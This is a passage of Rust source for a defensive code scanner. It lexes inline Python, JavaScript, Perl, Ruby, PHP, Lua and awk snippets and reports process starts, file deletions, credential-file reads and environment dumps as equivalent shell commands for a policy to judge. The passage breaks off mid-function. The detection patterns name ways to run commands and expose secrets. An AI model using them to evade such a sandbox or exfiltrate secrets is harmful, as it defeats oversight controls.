//! Inline interpreter code (`python -c`, `node -e`, `perl -e`, heredocs fed to interpreters):
//! a light lexer finds the calls that start processes (`os.system`, `execSync`, `system`,
//! backticks, …) and extracts their literal command, or reports that it is built at run time.
//! Calls that delete, move or copy files (`shutil.rmtree`, `FileUtils.rm_rf`, `fs.rmSync`,
//! `unlink`, …) on literal paths are reported as the equivalent command (`rm -rf PATH`), so the
//! policy's path rules judge where they land; so are reads and writes of a literal path
//! (`open('.env')`, `fs.readFileSync`, `File.write`: `cat PATH`, `touch PATH`), and printing
//! the environment or one variable of it (`print(os.environ)`, `console.log(process.env.X)`:
//! `printenv [X]`). This is deliberately not a full parser: it over-reports rather than misses.

/// The language of a piece of inline code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Lang {
    Python,
    Js,
    Perl,
    Ruby,
    Php,
    Lua,
    Awk,
}

/// A process start found in inline code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Embedded {
    /// A string run through a shell.
    Shell(String),
    /// An argv exec'd directly; `true` when more arguments are added at run time.
    Argv(Vec<String>, bool),
    /// Code of the same language evaluated at run time (`exec("…")`, `eval("…")`).
    Code(String),
    /// A process start whose command is computed at run time; the text is the call.
    NonLiteral(String),
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Ident(String),
    /// A string literal; `false` when it interpolates run-time values.
    Str(String, bool),
    /// A backquoted / `qx` / `%x` command literal.
    Cmd(String, bool),
    Punct(char),
    Newline,
}

/// What a call does with its arguments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CallKind {
    /// First argument: a shell string, or a list literal used as argv.
    ShellOrList,
    /// One argument: shell string; several literal arguments: argv (perl/ruby `system`).
    MultiArgv,
    /// `f(prog, [args])` or `f([argv])`.
    ProgArgs,
    /// `os.execv(path, [argv0, args…])`, `os.execl(path, argv0, args…)`.
    PyExec,
    /// `os.spawnv(mode, path, [argv0, args…])`.
    PySpawn,
    /// Code of the same language.
    Code,
    /// Python's `open(path, mode)`: `cat PATH` to read, `touch PATH` for a mode that writes.
    PyOpen,
    /// A file operation on the first `paths` literal arguments, reported as the command
    /// `program` followed by those paths (`rm -rf PATH`, `mv FROM TO`). An argument computed at
    /// run time is not reported: the sandbox confines what it reaches.
    FileOp {
        program: &'static [&'static str],
        paths: usize,
    },
}

const RM_RF: CallKind = CallKind::FileOp {
    program: &["rm", "-rf"],
    paths: 1,
};
const RM_F: CallKind = CallKind::FileOp {
    program: &["rm", "-f"],
    paths: 1,
};
const RMDIR: CallKind = CallKind::FileOp {
    program: &["rmdir"],
    paths: 1,
};
const MV: CallKind = CallKind::FileOp {
    program: &["mv"],
    paths: 2,
};
const CP_R: CallKind = CallKind::FileOp {
    program: &["cp", "-r"],
    paths: 2,
};
/// A file read: judged like `cat` of it (a credential file's read is asked about).
const CAT: CallKind = CallKind::FileOp {
    program: &["cat"],
    paths: 1,
};
/// A file written: judged like `touch` of it (where it lands decides).
const TOUCH: CallKind = CallKind::FileOp {
    program: &["touch"],
    paths: 1,
};

/// The file operations of each language's standard library (see [`CallKind::FileOp`]). Names
/// that are common words elsewhere (`remove`, `rename`, `unlink`) count only when qualified by
/// their module (`os.remove`, `fs.unlink`, `File.delete`).
fn file_op(lang: Lang, name: &str, qualified: &str) -> Option<CallKind> {
    let module = qualified.rsplit_once(['.', ':']).map_or("", |(m, _)| m);
    let in_module = |names: &[&str]| names.iter().any(|m| module.ends_with(m));
    match lang {
        Lang::Python => match name {
            "rmtree" => Some(RM_RF),
            "remove" | "unlink" if in_module(&["os"]) => Some(RM_F),
            "rmdir" | "removedirs" if in_module(&["os"]) => Some(RMDIR),
            "rename" | "replace" | "renames" if in_module(&["os"]) => Some(MV),
            "move" if in_module(&["shutil"]) => Some(MV),
            "copy" | "copy2" | "copyfile" | "copytree" if in_module(&["shutil"]) => Some(CP_R),
            "open" if module.is_empty() || in_module(&["io", "codecs", "os", "gzip", "bz2"]) => {
                Some(CallKind::PyOpen)
            }
            _ => None,
        },
        Lang::Js => match name {
            "rmSync" | "rmdirSync" => Some(RM_RF),
            "rm" | "rmdir" if in_module(&["fs", "promises"]) => Some(RM_RF),
            "unlinkSync" => Some(RM_F),
            "unlink" if in_module(&["fs", "promises"]) => Some(RM_F),
            "renameSync" => Some(MV),
            "rename" if in_module(&["fs", "promises"]) => Some(MV),
            "copyFileSync" | "cpSync" => Some(CP_R),
            "readFileSync" | "createReadStream" => Some(CAT),
            "readFile" if in_module(&["fs", "promises"]) => Some(CAT),
            "writeFileSync" | "appendFileSync" | "createWriteStream" => Some(TOUCH),
            "writeFile" | "appendFile" if in_module(&["fs", "promises"]) => Some(TOUCH),
            _ => None,
        },
        Lang::Perl => match name {
            "rmtree" | "remove_tree" => Some(RM_RF),
            "unlink" => Some(RM_F),
            "rmdir" => Some(RMDIR),
            "rename" | "move" => Some(MV),
            _ => None,
        },
        Lang::Ruby => match name {
            "rm_rf" | "rm_r" | "remove_dir" | "remove_entry" | "remove_entry_secure" | "rmtree" => {
                Some(RM_RF)
            }
            "rm" | "rm_f" | "remove" | "remove_file" if in_module(&["FileUtils"]) => Some(RM_F),
            "delete" | "unlink" if in_module(&["File"]) => Some(RM_F),
            "delete" | "rmdir" | "unlink" if in_module(&["Dir"]) => Some(RMDIR),
            "mv" | "move" if in_module(&["FileUtils"]) => Some(MV),
            "rename" if in_module(&["File"]) => Some(MV),
            "cp" | "cp_r" | "copy" if in_module(&["FileUtils"]) => Some(CP_R),
            "read" | "readlines" | "binread" | "foreach" if in_module(&["File", "IO"]) => Some(CAT),
            "write" | "binwrite" if in_module(&["File", "IO"]) => Some(TOUCH),
            _ => None,
        },
        Lang::Php => match name {
            "unlink" => Some(RM_F),
            "rmdir" => Some(RMDIR),
            "rename" => Some(MV),
            "copy" => Some(CP_R),
            "file_get_contents" | "file" | "readfile" | "fopen" => Some(CAT),
            "file_put_contents" => Some(TOUCH),
            _ => None,
        },
        Lang::Lua => match name {
            "remove" if in_module(&["os"]) => Some(RM_F),
            "rename" if in_module(&["os"]) => Some(MV),
            "open" | "lines" if in_module(&["io"]) => Some(CAT),
            _ => None,
        },
        Lang::Awk => None,
    }
}

fn call_kind(lang: Lang, name: &str, qualified: &str, code: &str) -> Option<CallKind> {
    use CallKind::*;
    if let Some(op) = file_op(lang, name, qualified) {
        return Some(op);
    }
    match lang {
        Lang::Python => match name {
            "system" | "popen" | "getoutput" | "getstatusoutput" | "Popen" | "check_call"
            | "check_output" => Some(ShellOrList),
            "run" | "call" if qualified.contains("subprocess") || !qualified.contains('.') => {
                if code.contains("subprocess") {
                    Some(ShellOrList)
                } else {
                    None
                }
            }
            "spawn" if qualified.contains("pty") => Some(ShellOrList),
            "execl" | "execlp" | "execle" | "execlpe" | "execv" | "execvp" | "execve"
            | "execvpe" | "posix_spawn" | "posix_spawnp" => Some(PyExec),
            "spawnl" | "spawnlp" | "spawnle" | "spawnlpe" | "spawnv" | "spawnvp" | "spawnve"
            | "spawnvpe" => Some(PySpawn),
            "exec" | "eval" | "compile" if !qualified.contains('.') => Some(Code),
            _ => None,
        },
        Lang::Js => match name {
            "exec" | "execSync" => Some(ShellOrList),
            "spawn" | "spawnSync" | "execFile" | "execFileSync" | "Command" => Some(ProgArgs),
            "eval" | "Function" if !qualified.contains('.') => Some(Code),
            _ => None,
        },
        Lang::Perl => match name {
            "system" | "exec" => Some(MultiArgv),
            "readpipe" => Some(ShellOrList),
            "eval" => Some(Code),
            _ => None,
        },
        Lang::Ruby => match name {
            "system" | "exec" | "spawn" | "capture2" | "capture2e" | "capture3" | "popen2"
            | "popen2e" | "popen3" => Some(MultiArgv),
            "popen" => Some(ShellOrList),
            "eval" | "instance_eval" => Some(Code),
            _ => None,
        },
        Lang::Php => match name {
            "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open" => {
                Some(ShellOrList)
            }
            "pcntl_exec" => Some(ProgArgs),
            "eval" => Some(Code),
            _ => None,
        },
        Lang::Lua => match name {
            "execute" | "popen" => Some(ShellOrList),
            "load" | "loadstring" => Some(Code),
            _ => None,
        },
        Lang::Awk => match name {
            "system" => Some(ShellOrList),
            _ => None,
        },
    }
}

/// Finds the process starts in `code`.
#[cfg(test)]
pub(crate) fn scan(lang: Lang, code: &str) -> Vec<Embedded> {
    scan_at(lang, code).into_iter().map(|(_, e)| e).collect()
}

/// [`scan`], each process start with the byte offset in `code` of the call it comes from.
pub(crate) fn scan_at(lang: Lang, code: &str) -> Vec<(usize, Embedded)> {
    let (toks, starts) = lex(lang, code);
    let mut out = Vec::new();
    // Where each entry of `out` comes from: the start of the token its loop turn began at.
    let mut out_at: Vec<usize> = Vec::new();
    let mut turn_at = 0;
    let mut printed_until = 0;
    let mut i = 0;
    while i < toks.len() {
        out_at.resize(out.len(), turn_at);
        turn_at = starts[i];
        match &toks[i] {
            Tok::Cmd(s, lit) => {
                out.push(if *lit {
                    Embedded::Shell(s.clone())
                } else {
                    Embedded::NonLiteral(format!("`{s}`"))
                });
            }
            // (A print inside a print's arguments was read with the outer one.)
            Tok::Ident(q) if prints(lang, q) && i >= printed_until => {
                let (args, next) = match toks.get(i + 1) {
                    Some(Tok::Punct('(')) => call_args(&toks, i + 2),
                    _ if lang != Lang::Python && lang != Lang::Js => bare_args(&toks, i + 1),
                    _ => (Vec::new(), i),
                };
                printed_until = next;
                let printed: Vec<Tok> = args.into_iter().flatten().collect();
                out.extend(env_reads(lang, &printed).into_iter().map(|name| {
                    Embedded::Argv(
                        std::iter::once("printenv".into()).chain(name).collect(),
                        false,
                    )
                }));
            }
            Tok::Ident(q) => {
                let name = q.rsplit(['.', ':']).next().unwrap_or(q);
                if lang == Lang::Python
                    && let Some(e) = pathlib_op(&toks, i, name)
                {
                    out.push(e);
                } else if lang == Lang::Js && name == "require" {
                    if let Some(Tok::Punct('(')) = toks.get(i + 1) {
                        let (args, _) = call_args(&toks, i + 2);
                        if !matches!(args.first().map(Vec::as_slice), Some([Tok::Str(_, true)])) {
                            out.push(Embedded::NonLiteral(format!("{q}(…)")));
                        }
                    }
                } else if let Some(kind) = call_kind(lang, name, q, code) {
                    let (args, next) = match toks.get(i + 1) {
                        Some(Tok::Punct('(')) => call_args(&toks, i + 2),
                        Some(Tok::Str(..) | Tok::Punct('[')) if lang != Lang::Python => {
                            bare_args(&toks, i + 1)
                        }
                        _ => {
                            i += 1;
                            continue;
                        }
                    };
                    classify(kind, q, &args, &mut out);
                    // Arguments are scanned too (nested calls), so do not skip past them.
                    let _ = next;
                }
            }
            Tok::Punct('|') if lang == Lang::Awk => {
                let prev = i.checked_sub(1).and_then(|p| toks.get(p));
                // gawk's two-way pipe `|&`.
                let j = if matches!(toks.get(i + 1), Some(Tok::Punct('&'))) {
                    i + 2
                } else {
                    i + 1
                };
                let next = toks.get(j);
                let logical_or = matches!(prev, Some(Tok::Punct('|')))
                    || matches!(toks.get(i + 1), Some(Tok::Punct('|')));
                let lit_or_not = |s: &String, lit: bool| {
                    if lit {
                        Embedded::Shell(s.clone())
                    } else {
                        Embedded::NonLiteral(s.clone())
                    }
                };
                match (logical_or, next, prev) {
                    (true, _, _) => {}
                    (false, Some(Tok::Str(s, lit)), _) => out.push(lit_or_not(s, *lit)),
                    (false, Some(Tok::Ident(g)), Some(Tok::Str(s, lit))) if g == "getline" => {
                        out.push(lit_or_not(s, *lit));
                    }
                    // `print | cmd`, `cmd | getline` with `cmd` a variable or expression.
                    _ => out.push(Embedded::NonLiteral(
                        "awk pipe to a computed command".into(),
                    )),
                }
            }
            _ => {}
        }
        i += 1;
    }
    out_at.resize(out.len(), turn_at);
    // Character positions to byte offsets.
    let bytes: Vec<usize> = code.char_indices().map(|(b, _)| b).collect();
    out_at
        .into_iter()
        .map(|c| bytes.get(c).copied().unwrap_or(code.len()))
        .zip(out)
        .collect()
}

/// Whether `q` prints or serialises its arguments (to the terminal, a log or a file): what it is
/// given of the environment leaves the process.
fn prints(lang: Lang, q: &str) -> bool {
    match lang {
        Lang::Python => matches!(
            q,
            "print"
                | "pprint"
                | "pprint.pprint"
                | "pp"
                | "json.dumps"
                | "json.dump"
                | "sys.stdout.write"
                | "sys.stderr.write"
        ),
        Lang::Js => matches!(
            q,
            "console.log"
                | "console.dir"
                | "console.table"
                | "console.error"
                | "console.info"
                | "console.warn"
                | "console.debug"
                | "JSON.stringify"
                | "process.stdout.write"
                | "process.stderr.write"
        ),
        Lang::Ruby => matches!(q, "puts" | "p" | "pp" | "print" | "warn"),
        Lang::Perl => matches!(q, "print" | "printf" | "say" | "warn" | "Dumper"),
        Lang::Php => matches!(
            q,
            "echo" | "print" | "print_r" | "var_dump" | "var_export" | "json_encode"
        ),
        Lang::Lua => matches!(q, "print" | "io.write"),
        Lang::Awk => matches!(q, "print" | "printf"),
    }
}

/// The environment variables `toks` (what a call prints) reads: `Some(NAME)` for one named by a
/// literal (`os.environ['TOKEN']`, `process.env.TOKEN`, `ENV['TOKEN']`, `$ENV{TOKEN}`), `None`
/// for the whole environment or a name computed at run time (`os.environ`, `process.env`,
/// `%ENV`, `ENV.to_h`, `ENVIRON[k]`). Reported as `printenv [NAME]`, so that the policy's
/// rules for printing the environment judge them.
fn env_reads(lang: Lang, toks: &[Tok]) -> Vec<Option<String>> {
    let mut out = Vec::new();
    let key_at = |j: usize| -> Option<String> {
        match (toks.get(j), toks.get(j + 1), toks.get(j + 2)) {
            (
                Some(Tok::Punct('[' | '(' | '{')),
                Some(Tok::Str(k, true)),
                Some(Tok::Punct(']' | ')' | '}' | ',')),
            ) => Some(k.clone()),
            (Some(Tok::Punct('{')), Some(Tok::Ident(k)), Some(Tok::Punct('}')))
                if lang == Lang::Perl =>
            {
                Some(k.clone())
            }
            _ => None,
        }
    };
    for (j, t) in toks.iter().enumerate() {
        let prev = j.checked_sub(1).and_then(|p| toks.get(p));
        let Tok::Ident(q) = t else { continue };
        let (base, rest) = match lang {
            Lang::Python => ["os.environ", "environ", "os.getenv", "getenv"]
                .iter()
                .find_map(|b| q.strip_prefix(b).map(|r| (*b, r))),
            Lang::Js => q.strip_prefix("process.env").map(|r| ("process.env", r)),
            Lang::Ruby => q.strip_prefix("ENV").map(|r| ("ENV", r)),
            Lang::Perl if matches!(prev, Some(Tok::Punct('%' | '$'))) && q == "ENV" => {
                Some(("ENV", ""))
            }
            Lang::Php
                if matches!(prev, Some(Tok::Punct('$'))) && (q == "_ENV" || q == "_SERVER") =>
            {
                Some(("_ENV", ""))
            }
            Lang::Php => q.strip_prefix("getenv").map(|r| ("getenv", r)),
            Lang::Lua => q.strip_prefix("os.getenv").map(|r| ("os.getenv", r)),
            Lang::Awk => q.strip_prefix("ENVIRON").map(|r| ("ENVIRON", r)),
            _ => None,
        }
        .filter(|(_, r)| r.is_empty() || r.starts_with('.'))
        .unwrap_or(("", ""));
        if base.is_empty() {
            continue;
        }
        let method = rest.trim_start_matches('.');
        let named = match (lang, method) {
            // `process.env.TOKEN`
            (Lang::Js, m) if !m.is_empty() => Some(m.split('.').next().unwrap_or(m).to_owned()),
            (_, "" | "get" | "fetch" | "getenv") => key_at(j + 1),
            _ => None,
        };
        // `os.getenv()` / PHP's `getenv()` with no name return every variable.
        out.push(named);
    }
    out
}

/// `Path('/srv/x').unlink()` and the other file operations of a `pathlib.Path` made from a
/// literal (the method `name` at `toks[i]`): the equivalent command, as for [`file_op`].
fn pathlib_op(toks: &[Tok], i: usize, name: &str) -> Option<Embedded> {
    let program: &[&str] = match name {
        "unlink" => &["rm", "-f"],
        "rmdir" => &["rmdir"],
        "write_text" | "write_bytes" | "touch" => &["touch"],
        "read_text" | "read_bytes" | "open" => &["cat"],
        "rename" | "replace" => &["mv"],
        _ => return None,
    };
    let [
        Tok::Ident(class),
        Tok::Punct('('),
        Tok::Str(path, true),
        Tok::Punct(')'),
        Tok::Punct('.'),
    ] = toks.get(i.checked_sub(5)?..i)?
    else {
        return None;
    };
    if !class.ends_with("Path") {
        return None;
    }
    let mut argv: Vec<String> = program.iter().map(|p| (*p).to_owned()).collect();
    argv.push(path.clone());
    if argv[0] == "mv" {
        let (args, _) = call_args(toks, i + 2);
        match args.first().map(|a| arg_value(a)) {
            Some(Arg::Lit(to)) if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
                argv.push(to);
            }
            _ => return None,
        }
    }
    Some(Embedded::Argv(argv, false))
}

enum Arg {
    Lit(String),
    List(Vec<String>),
    Other,
}

fn arg_value(toks: &[Tok]) -> Arg {
    let toks: Vec<&Tok> = toks.iter().filter(|t| **t != Tok::Newline).collect();
    // Adjacent literals or literals joined by `+` / `.`.
    let mut s = String::new();
    let mut expect_str = true;
    let mut all_lit = !toks.is_empty();
    for t in &toks {
        match (t, expect_str) {
            (Tok::Str(v, true), true) => {
                s.push_str(v);
                expect_str = false;
            }
            (Tok::Str(v, true), false) => s.push_str(v),
            (Tok::Punct('+' | '.'), false) => expect_str = true,
            _ => {
                all_lit = false;
                break;
            }
        }
    }
    if all_lit && !expect_str {
        return Arg::Lit(s);
    }
    if let (Some(Tok::Punct('[')), Some(Tok::Punct(']'))) = (toks.first(), toks.last()) {
        let mut items = Vec::new();
        let mut want_item = true;
        for t in &toks[1..toks.len() - 1] {
            match (t, want_item) {
                (Tok::Str(v, true), true) => {
                    items.push(v.clone());
                    want_item = false;
                }
                (Tok::Punct(','), false) => want_item = true,
                _ => return Arg::Other,
            }
        }
        return Arg::List(items);
    }
    Arg::Other
}

fn classify(kind: CallKind, q: &str, args: &[Vec<Tok>], out: &mut Vec<Embedded>) {
    let vals: Vec<Arg> = args.iter().map(|a| arg_value(a)).collect();
    let nonlit = || Embedded::NonLiteral(format!("{q}(…)"));
    let is_kw = |a: &Vec<Tok>| {
        matches!(a.as_slice(), [Tok::Ident(_), Tok::Punct('='), ..])
            || matches!(a.as_slice(), [Tok::Punct('{'), ..])
    };
    match kind {
        CallKind::ShellOrList => match vals.first() {
            Some(Arg::Lit(s)) => out.push(Embedded::Shell(s.clone())),
            Some(Arg::List(v)) => out.push(Embedded::Argv(v.clone(), false)),
            _ => out.push(nonlit()),
        },
        CallKind::Code => match vals.first() {
            Some(Arg::Lit(s)) => out.push(Embedded::Code(s.clone())),
            _ => out.push(nonlit()),
        },
        CallKind::MultiArgv => {
            let positional: Vec<&Arg> = vals
                .iter()
                .zip(args)
                .filter(|(_, a)| !is_kw(a))
                .map(|(v, _)| v)
                .collect();
            match positional.as_slice() {
                [Arg::Lit(s)] => out.push(Embedded::Shell(s.clone())),
                [Arg::List(v)] => out.push(Embedded::Argv(v.clone(), false)),
                many if !many.is_empty() && many.iter().all(|a| matches!(a, Arg::Lit(_))) => {
                    let argv = many
                        .iter()
                        .filter_map(|a| match a {
                            Arg::Lit(s) => Some(s.clone()),
                            _ => None,
                        })
                        .collect();
                    out.push(Embedded::Argv(argv, false));
                }
                _ => out.push(nonlit()),
            }
        }
        CallKind::ProgArgs => match (vals.first(), vals.get(1)) {
            (Some(Arg::List(v)), _) => out.push(Embedded::Argv(v.clone(), false)),
            (Some(Arg::Lit(p)), None) => out.push(Embedded::Argv(vec![p.clone()], false)),
            (Some(Arg::Lit(p)), Some(Arg::List(v))) => {
                let mut argv = vec![p.clone()];
                argv.extend(v.iter().cloned());
                out.push(Embedded::Argv(argv, false));
            }
            (Some(Arg::Lit(p)), Some(_)) => {
                if is_kw(&args[1]) {
                    out.push(Embedded::Argv(vec![p.clone()], true));
                } else {
                    out.push(nonlit());
                }
            }
            _ => out.push(nonlit()),
        },
        CallKind::PyOpen => {
            let mut positional = vals.iter().zip(args).filter(|(_, a)| !is_kw(a));
            let Some((Arg::Lit(path), _)) = positional.next() else {
                return;
            };
            let keyword_mode = args.iter().find_map(|a| match a.as_slice() {
                [Tok::Ident(k), Tok::Punct('='), Tok::Str(m, _), ..] if k == "mode" => Some(m),
                _ => None,
            });
            let mode = match positional.next() {
                Some((Arg::Lit(m), _)) => Some(m),
                _ => keyword_mode,
            };
            let writes = mode.is_some_and(|m| m.contains(['w', 'a', 'x', '+']));
            let program = if writes { "touch" } else { "cat" };
            out.push(Embedded::Argv(vec![program.into(), path.clone()], false));
        }
        CallKind::FileOp { program, paths } => {
            let literal: Vec<&String> = vals
                .iter()
                .zip(args)
                .filter(|(_, a)| !is_kw(a))
                .take(paths)
                .filter_map(|(v, _)| match v {
                    Arg::Lit(s) => Some(s),
                    _ => None,
                })
                .collect();
            if literal.len() == paths {
                let mut argv: Vec<String> = program.iter().map(|p| (*p).to_owned()).collect();
                argv.extend(literal.into_iter().cloned());
                out.push(Embedded::Argv(argv, false));
            }
        }
        CallKind::PyExec | CallKind::PySpawn => {
            let skip = usize::from(kind == CallKind::PySpawn);
            let rest: Vec<&Arg> = vals.iter().skip(skip).collect();
            let Some(Arg::Lit(path)) = rest.first() else {
                out.push(nonlit());
                return;
            };
            let mut argv = vec![path.clone()];
            let mut ok = true;
            match rest.get(1) {
                Some(Arg::List(v)) => argv.extend(v.iter().skip(1).cloned()),
                Some(Arg::Lit(_)) => {
                    for a in rest.iter().skip(2) {
                        match a {
                            Arg::Lit(s) => argv.push(s.clone()),
                            _ => ok = q.ends_with('e'),
                        }
                    }
                }
                None => {}
                Some(Arg::Other) => ok = false,
            }
            if ok {
                out.push(Embedded::Argv(argv, false));
            } else {
                out.push(nonlit());
            }
        }
    }
}

/// Arguments of a parenthesised call starting after `(`; split on top-level commas.
fn call_args(toks: &[Tok], mut i: usize) -> (Vec<Vec<Tok>>, usize) {
    let mut args = vec![Vec::new()];
    let mut depth = 0usize;
    while i < toks.len() {
        let t = &toks[i];
        i += 1;
        match t {
            Tok::Punct('(' | '[' | '{') => depth += 1,
            Tok::Punct(')' | ']' | '}') if depth == 0 => break,
            Tok::Punct(')' | ']' | '}') => depth -= 1,
            Tok::Punct(',') if depth == 0 => {
                args.push(Vec::new());
                continue;
            }
            _ => {}
        }
        if let Some(last) = args.last_mut() {
            last.push(t.clone());
        }
    }
    if args.last().is_some_and(Vec::is_empty) {
        args.pop();
    }
    (args, i)
}

/// Arguments of a call without parentheses (`system "x"`), up to `;`, a newline or a closer.
fn bare_args(toks: &[Tok], mut i: usize) -> (Vec<Vec<Tok>>, usize) {
    let mut args = vec![Vec::new()];
    let mut depth = 0usize;
    while i < toks.len() {
        let t = &toks[i];
        match t {
            Tok::Punct(';') | Tok::Newline if depth == 0 => break,
            Tok::Punct(')' | '}') if depth == 0 => break,
            Tok::Punct('(' | '[' | '{') => depth += 1,
            Tok::Punct(')' | ']' | '}') => depth = depth.saturating_sub(1),
            Tok::Punct(',') if depth == 0 => {
                args.push(Vec::new());
                i += 1;
                continue;
            }
            _ => {}
        }
        if let Some(last) = args.last_mut() {
            last.push(t.clone());
        }
        i += 1;
    }
    (args, i)
}

fn closing(open: char) -> char {
    match open {
        '(' => ')',
        '[' => ']',
        '{' => '}',
        '<' => '>',
        c => c,
    }
}

/// The tokens of `code`, and the character position each starts at.
fn lex(lang: Lang, code: &str) -> (Vec<Tok>, Vec<usize>) {
    let c: Vec<char> = code.chars().collect();
    let mut toks = Vec::new();
    // The tokens a loop turn pushed start where the turn began.
    let mut starts: Vec<usize> = Vec::new();
    let mut turn_at = 0;
    let mut i = 0;
    while i < c.len() {
        starts.resize(toks.len(), turn_at);
        turn_at = i;
        let ch = c[i];
        // Comments.
        let line_comment = match lang {
            Lang::Python | Lang::Ruby | Lang::Awk => ch == '#',
            Lang::Perl | Lang::Php => {
                ch == '#' && (i == 0 || c[i - 1].is_whitespace() || c[i - 1] == ';')
            }
            Lang::Js => ch == '/' && c.get(i + 1) == Some(&'/'),
            Lang::Lua => ch == '-' && c.get(i + 1) == Some(&'-'),
        } || (lang == Lang::Php && ch == '/' && c.get(i + 1) == Some(&'/'));
        if line_comment {
            while i < c.len() && c[i] != '\n' {
                i += 1;
            }
            continue;
        }
        if matches!(lang, Lang::Js | Lang::Php) && ch == '/' && c.get(i + 1) == Some(&'*') {
            i += 2;
            while i + 1 < c.len() && !(c[i] == '*' && c[i + 1] == '/') {
                i += 1;
            }
            i += 2;
            continue;
        }
        if ch == '\n' {
            toks.push(Tok::Newline);
            i += 1;
            continue;
        }
        if ch.is_whitespace() {
            i += 1;
            continue;
        }
        // Perl qx / q / qq and Ruby %x / %q / %Q / %w.
        if (lang == Lang::Perl && ch == 'q' && (i == 0 || !is_ident(c[i - 1])))
            || (lang == Lang::Ruby && ch == '%')
        {
            let (kind, skip) = match (lang, c.get(i + 1), c.get(i + 2)) {
                (Lang::Perl, Some('x'), Some(d)) if !is_ident(*d) && !d.is_whitespace() => ('x', 2),
                (Lang::Perl, Some('q'), Some(d)) if !is_ident(*d) && !d.is_whitespace() => ('Q', 2),
                (Lang::Perl, Some(d), _) if !is_ident(*d) && !d.is_whitespace() && *d != '=' => {
                    ('q', 1)
                }
                (Lang::Ruby, Some('x'), Some(d)) if !d.is_alphanumeric() => ('x', 2),
                (Lang::Ruby, Some('q'), Some(d)) if !d.is_alphanumeric() => ('q', 2),
                (Lang::Ruby, Some('Q'), Some(d)) if !d.is_alphanumeric() => ('Q', 2),
                _ => ('-', 0),
            };
            if kind != '-' {
                let open = c[i + skip];
                let close = closing(open);
                let mut j = i + skip + 1;
                let mut s = String::new();
                let mut depth = 0;
                while j < c.len() {
                    if c[j] == '\\' && j + 1 < c.len() {
                        s.push(c[j + 1]);
                        j += 2;
                        continue;
                    }
                    if c[j] == open && open != close {
                        depth += 1;
                    } else if c[j] == close {
                        if depth == 0 {
                            break;
                        }
                        depth -= 1;
                    }
                    s.push(c[j]);
                    j += 1;
                }
                let lit = kind == 'q' || !interpolates(lang, &s);
                toks.push(match kind {
                    'x' => Tok::Cmd(s, lit),
                    _ => Tok::Str(s, lit),
                });
                i = j + 1;
                continue;
            }
        }
        // Python string prefixes.
        if lang == Lang::Python && ch.is_ascii_alphabetic() {
            let mut j = i;
            while j < c.len() && j - i < 2 && "rRbBuUfF".contains(c[j]) {
                j += 1;
            }
            if j > i
                && j < c.len()
                && (c[j] == '\'' || c[j] == '"')
                && (i == 0 || !is_ident(c[i - 1]))
            {
                let prefix: String = c[i..j].iter().collect::<String>().to_lowercase();
                let (s, end, _) = read_quoted(&c, j, !prefix.contains('r'), true);
                let lit = !(prefix.contains('f') && has_fstring_field(&s));
                toks.push(Tok::Str(s, lit));
                i = end;
                continue;
            }
        }
        if lang == Lang::Lua && ch == '[' && c.get(i + 1) == Some(&'[') {
            let mut j = i + 2;
            let mut s = String::new();
            while j + 1 < c.len() && !(c[j] == ']' && c[j + 1] == ']') {
                s.push(c[j]);
                j += 1;
            }
            toks.push(Tok::Str(s, true));
            i = j + 2;
            continue;
        }
        if ch == '\'' || ch == '"' || ch == '`' {
            let escapes = !(ch == '\'' && matches!(lang, Lang::Perl | Lang::Php | Lang::Ruby));
            let (s, end, _) = read_quoted(&c, i, escapes, lang == Lang::Python);
            i = end;
            let lit = match (ch, lang) {
                ('\'', Lang::Perl | Lang::Php | Lang::Ruby) => true,
                ('"', _) => !interpolates(lang, &s),
                ('\'', _) => true,
                ('`', Lang::Js) => !s.contains("${"),
                ('`', _) => !interpolates(lang, &s),
                _ => true,
            };
            if ch == '`' && lang != Lang::Js && lang != Lang::Python {
                toks.push(Tok::Cmd(s, lit));
            } else {
                toks.push(Tok::Str(s, lit));
            }
            continue;
        }
        if is_ident(ch) && !ch.is_ascii_digit() || ch == '$' && lang == Lang::Js {
            let mut j = i;
            let mut s = String::new();
            while j < c.len() {
                if is_ident(c[j]) || (c[j] == '$' && lang == Lang::Js) {
                    s.push(c[j]);
                    j += 1;
                } else if (c[j] == '.' || (c[j] == ':' && c.get(j + 1) == Some(&':')))
                    && c.get(j + 1 + usize::from(c[j] == ':'))
                        .is_some_and(|n| is_ident(*n))
                {
                    let n = 1 + usize::from(c[j] == ':');
                    s.extend(&c[j..j + n]);
                    j += n;
                } else if c[j] == '-' && lang == Lang::Php && c.get(j + 1) == Some(&'>') {
                    s.push('.');
                    j += 2;
                } else {
                    break;
                }
            }
            toks.push(Tok::Ident(s));
            i = j;
            continue;
        }
        toks.push(Tok::Punct(ch));
        i += 1;
    }
    starts.resize(toks.len(), turn_at);
    (toks, starts)
}

fn is_ident(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

fn has_fstring_field(s: &str) -> bool {
    s.replace("{{", "").contains('{')
}

/// Whether a double-quoted (or backquoted) literal interpolates variables in `lang`.
fn interpolates(lang: Lang, s: &str) -> bool {
    match lang {
        Lang::Perl => s.contains('$') || s.contains('@'),
        Lang::Php => s.contains('$'),
        Lang::Ruby => s.contains("#{"),
        Lang::Js => s.contains("${"),
        Lang::Python | Lang::Lua | Lang::Awk => false,
    }
}

/// Reads a quoted literal starting at `c[start]` (the quote); returns its value, the index after
/// it, and whether it was closed. Python triple quotes are handled when `triple` is set.
fn read_quoted(c: &[char], start: usize, escapes: bool, triple: bool) -> (String, usize, bool) {
    let q = c[start];
    let tq = triple && c.get(start + 1) == Some(&q) && c.get(start + 2) == Some(&q);
    let mut i = start + if tq { 3 } else { 1 };
    let mut s = String::new();
    while i < c.len() {
        let ch = c[i];
        if ch == '\\' && i + 1 < c.len() {
            let n = c[i + 1];
            if escapes {
                match n {
                    'n' => s.push('\n'),
                    't' => s.push('\t'),
                    'r' => s.push('\r'),
                    '0' => s.push('\0'),
                    '\\' | '\'' | '"' | '`' => s.push(n),
                    '\n' => {}
                    'x' if i + 3 < c.len() => {
                        let h: String = c[i + 2..i + 4].iter().collect();
                        match u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                            Some(v) => {
                                s.push(v);
                                i += 2;
                            }
                            None => {
                                s.push('\\');
                                s.push('x');
                            }
                        }
                    }
                    _ => {
                        s.push('\\');
